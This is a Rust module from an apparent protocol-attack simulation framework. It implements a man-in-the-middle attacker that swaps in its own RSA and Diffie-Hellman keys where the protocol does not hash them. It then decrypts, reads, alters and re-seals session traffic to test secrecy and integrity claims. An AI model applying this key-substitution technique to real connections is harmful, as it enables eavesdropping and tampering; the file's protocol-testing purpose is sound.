//! `mitm-keys`: keys of its own on both sides.

use crate::address::Address;
use crate::attack::{AttackContext, AttackSpec, Attacker, Control, Power, Property, Verdict, View};
use crate::crypto::group::mod_pow;
use crate::rsa_udp::messages::InnerKind;
use crate::rsa_udp::params::Params;

use super::tap::{Event, Tap};
use super::wire::OwnKey;

pub(super) const SPEC: AttackSpec = AttackSpec {
    id: "mitm-keys",
    help: "Puts an RSA key and Diffie-Hellman values of its own into PASS and ENCRYPT: neither hash covers \
           them. Then it opens every SEALED frame, reads the text, changes that of DATA, and seals it \
           anew for the other side.",
    powers: &[Power::Observe, Power::Drop, Power::Spoof, Power::Modify],
    properties: &[Property::Secrecy, Property::Integrity, Property::Agreement],
    claims: &["RU-C2", "RU-C3"],
    control: Control::without("cipher"),
    claims_secrets: &["payload"],
    ..super::BASE
};

/// Exponent of its own Diffie-Hellman value.
const EXPONENT: u64 = 4_321;

/// What it shares with the two ends of a session.
#[derive(Debug)]
struct Middle {
    client: Address,
    client_key: (Vec<u8>, u32),
    device_key: (Vec<u8>, u32),
    with_client: u64,
    with_device: u64,
    up: u64,
    down: u64,
}

#[derive(Debug)]
pub(super) struct MitmKeys {
    tap: Tap,
    own: OwnKey,
    middles: Vec<Middle>,
}

impl MitmKeys {
    pub(super) fn new(params: &Params) -> Self {
        Self {
            tap: Tap::new(params),
            own: OwnKey::default(),
            middles: Vec::new(),
        }
    }

    /// Reads a SEALED frame and seals it for the other side.
    fn reseal(&mut self, view: &View<'_>, up: bool, cx: &mut AttackContext<'_>) -> Option<Vec<u8>> {
        let (_, _, private) = self.own.get(&self.tap.wire.params, cx)?;
        let (kind, _, text) = self.tap.wire.open(cx, Some(&private), view.bytes)?;
        if !text.is_empty() {
            cx.claim("payload", view.from.host, text.clone());
        }
        let client = if up { view.from } else { view.to };
        let middle = self.middles.iter_mut();
        let middle = middle.rev().find(|middle| middle.client == client)?;
        let mut changed = text;
        let (key, number) = if up {
            middle.up += 1;
            if kind == InnerKind::Data
                && let Some(first) = changed.first_mut()
            {
                *first ^= 1;
            }
            (&middle.device_key, middle.with_device + 2 * (middle.up - 1))
        } else {
            middle.down += 1;
            let number = middle.with_client + 2 * (middle.down - 1) + 1;
            (&middle.client_key, number)
        };
        let inner = (kind, number, &changed[..]);
        self.tap.wire.seal(cx, (&key.0, key.1), inner)
    }
}

impl Attacker for MitmKeys {
    fn on_packet(&mut self, view: &View<'_>, cx: &mut AttackContext<'_>) -> Verdict {
        let event = self.tap.sees(view);
        let group = self.tap.wire.params.group;
        let public = mod_pow(group.generator, EXPONENT, group.prime);
        let changed = match event {
            Event::Pass => {
                let own = self.own.get(&self.tap.wire.params, cx);
                let (Some(pass), Some((modulus, exponent, _))) =
                    (self.tap.pending(view.from).cloned(), own)
                else {
                    return Verdict::Pass;
                };
                Some(self.tap.wire.pass_frame(&super::wire::PassParts {
                    dh_public: public,
                    modulus,
                    exponent,
                    ..pass
                }))
            }
            Event::Login => {
                let own = self.own.get(&self.tap.wire.params, cx);
                let (Some(session), Some((modulus, exponent, _))) =
                    (self.tap.session(view).cloned(), own)
                else {
                    return Verdict::Pass;
                };
                let shared = |theirs| u64::from(mod_pow(theirs, EXPONENT, group.prime));
                self.middles.retain(|middle| middle.client != view.to);
                self.middles.push(Middle {
                    client: view.to,
                    with_client: shared(session.pass.dh_public),
                    with_device: shared(session.encrypt.dh_public),
                    client_key: (session.pass.modulus, session.pass.exponent),
                    device_key: (session.encrypt.modulus.clone(), session.encrypt.exponent),
                    up: 0,
                    down: 0,
                });
                Some(self.tap.wire.encrypt_frame(&super::wire::EncryptParts {
                    dh_public: public,
                    modulus,
                    exponent,
                    ..session.encrypt
                }))
            }
            Event::Up(_) => self.reseal(view, true, cx),
            Event::Down(_) => self.reseal(view, false, cx),
            _ => None,
        };
        changed.map_or(Verdict::Pass, Verdict::Modify)
    }
}
